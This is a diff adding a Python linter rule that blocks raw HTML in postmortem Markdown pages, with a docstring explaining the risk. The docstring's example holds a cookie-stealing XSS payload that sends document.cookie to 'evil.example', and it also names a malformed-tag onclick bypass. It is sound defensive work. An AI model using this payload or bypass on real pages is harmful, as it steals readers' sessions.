@@ -1,0 +1,88 @@
+"""Raw HTML outside the small allow-list.
+
+## What it does
+Finds HTML tags in the body and in frontmatter values. Allowed in the body: `<br>`, `<sup>`,
+`<sub>`, `<kbd>`, `<details>` (optionally `<details open>`) and `<summary>`, without
+attributes, and HTML comments. Everything else is reported: `<script>`, `<iframe>`, `<img>`,
+`<div>`, event handlers such as `onclick=`, styles, and malformed tags such as
+`<a/onclick=alert(1)>` that the linter's parser reads as text but the site's Markdown engine
+(Python-Markdown) passes to the page as HTML. Text in code spans and code blocks is ignored,
+and so is HTML written with entities (`&lt;b&gt;`). Frontmatter values may hold no tag at all.
+
+## Why is this bad?
+Postmortems arrive by pull request from many authors and are published for the whole company:
+raw HTML is how a page runs script in every reader's browser. It also renders differently in
+the linter and on the site, and deeply nested raw HTML crashes the site build. The site
+sanitizes every page and refuses to publish a file that fails this rule.
+
+## Example
+```markdown
+Checkout failed <img src=x onerror="fetch('//evil.example/?'+document.cookie)">.
+
+<iframe src="https://dashboards.internal/checkout"></iframe>
+```
+
+## Use instead
+```markdown
+Checkout failed for 21% of orders (see the `CheckoutCompletionLow` dashboard).
+
+Write markup as Markdown, put code and tags in code spans: `<iframe>`.
+```
+"""
+
+from __future__ import annotations
+
+from linter.rules._frontmatter_values import string_values
+from linter.rules._html import ANY_TAG, TAG_LIKE, tag_problem
+from linter.rules._inline import inline_children, literally_in_source, text_runs
+from linter.rules.base import Violation, define
+from linter.safe_text import safe_excerpt
+
+
+def _message(problem: str, tag: str) -> str:
+    return f"{problem} is not allowed: '{safe_excerpt(tag, 60)}'; write it as Markdown, or in a code span if it is an example"
+
+
+def _block_tags(document):
+    for token in document.tokens:
+        if token.type != "html_block" or not token.map:
+            continue
+        for match in ANY_TAG.finditer(token.content):
+            problem = tag_problem(match.group(0))
+            if problem:
+                line = token.map[0] + 1 + token.content.count("\n", 0, match.start())
+                yield line, match.group(0), problem
+
+
+def _inline_tags(document):
+    for child in inline_children(document):
+        if child.token.type == "html_inline":
+            problem = tag_problem(child.token.content)
+            if problem:
+                yield child.line, child.token.content, problem
+    for parent, line, text in text_runs(document):
+        if "<" not in text:
+            continue
+        for match in TAG_LIKE.finditer(text):
+            problem = tag_problem(match.group(0))
+            if problem and literally_in_source(parent, match.group(0)):
+                yield line + text.count("\n", 0, match.start()), match.group(0), problem
+
+
+def _frontmatter_tags(document):
+    for path, line, column, value in string_values(document.frontmatter):
+        if "<" in value:
+            match = TAG_LIKE.search(value)
+            if match:
+                shown = ".".join(str(part) for part in path)
+                yield Violation(line, column, f"HTML in frontmatter value '{safe_excerpt(shown, 40)}' is not allowed: "
+                                              f"'{safe_excerpt(match.group(0), 60)}'; frontmatter values are plain text")
+
+
+def check(document, context):
+    yield from _frontmatter_tags(document)
+    for line, tag, problem in sorted((*_block_tags(document), *_inline_tags(document)), key=lambda found: found[0]):
+        yield Violation(line, document.column_of(line, tag), _message(problem, tag))
+
+
+RULE = define(__doc__, "PM801", "raw-html", "error", check)
